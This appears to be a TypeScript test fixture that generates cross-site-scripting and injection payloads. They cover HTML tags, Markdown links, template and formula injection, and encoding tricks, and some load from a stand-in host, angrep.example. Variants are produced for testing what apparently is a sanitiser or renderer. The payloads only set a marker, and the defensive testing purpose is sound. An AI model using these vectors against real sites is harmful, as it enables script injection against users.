/** Texts that run, load or change something where a program takes them for more than text. */

/** What each tries to set: looked for afterwards. */
export const RAN = 'kjørte';
/** What each tries to reach. */
export const REACHED = 'angrep.example';

const RUN = `globalThis.${RAN}=1`;
const AWAY = `https://${REACHED}/x`;

const MARKUP: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<iframe srcdoc="<script>parent.${RAN}=1</script>"></iframe>`,
  `<iframe src="javascript:parent.${RAN}=1"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">sak 26/25</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<math><mtext><style><img src=x onerror=${RUN}></style></mtext></math>`,
  `<video><source onerror=${RUN}></video>`,
  `<style>@import '${AWAY}'</style>`,
  `<link rel=stylesheet href=${AWAY}>`,
  `<base href="${AWAY}">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `"><script>${RUN}</script>`,
  `' onmouseover='${RUN}`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
];
const MARKDOWN: readonly string[] = [
  `[sak 26/25](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](java\tscript:${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  `[x](<javascript:${RUN}>)`,
  `[x]( javascript:${RUN} "t")`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](vbscript:${RUN})`,
  `[x](blob:${RUN})`,
  `[x](https://a.no" onclick="${RUN})`,
  `<javascript:${RUN}>`,
  `![x](x" onerror="${RUN})`,
  `![x](${AWAY})`,
  `![x](javascript:${RUN})`,
  `[x]: javascript:${RUN}\n[x]`,
  `[![x](${AWAY})](javascript:${RUN})`,
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
  `**<img src=x onerror=${RUN}>**`,
  `- <svg onload=${RUN}>`,
  `# <script>${RUN}</script>`,
];
const PROGRAM: readonly string[] = [
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `'; ${RUN}; //`,
  `javascript:${RUN}`,
  `=HYPERLINK("${AWAY}")`,
  `__proto__`,
  `\u202e<script>${RUN}</script>`,
  `\u0000<script>${RUN}</script>`,
];

const TABLE = interleaved([MARKUP, MARKDOWN, PROGRAM]);

/** The same in other clothes: for as many as are wanted. */
const CLOTHES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `sak 26/25 ${payload} HDAB`,
  (payload) => payload.replace(/<(\w)/g, (_all, letter: string) => `<${letter.toUpperCase()}`),
  (payload) => payload.replaceAll('<', '<\n'),
  (payload) => `> ${payload}`,
  (payload) => `1. ${payload}`,
  (payload) => payload.replaceAll(' ', '/'),
  (payload) => `<div>${payload}</div>`,
  (payload) => `[${payload}](https://www.ehelse.no)`,
  (payload) => `\`${payload}`,
  (payload) => `${payload}\n${payload}`,
  (payload) => `* * ${payload}`,
];

/** Distinct ones, the plain ones first. */
export function scriptPayloads(count: number): readonly string[] {
  const all = [...new Set(CLOTHES.flatMap((wear) => TABLE.map(wear)))];
  if (all.length < count) throw new Error(`there are ${all.length} payloads`);
  return all.slice(0, count);
}

function interleaved(lists: readonly (readonly string[])[]): readonly string[] {
  const longest = Math.max(...lists.map(({ length }) => length));
  return Array.from({ length: longest }, (_, at) => lists.flatMap((list) => list.slice(at, at + 1))).flat();
}
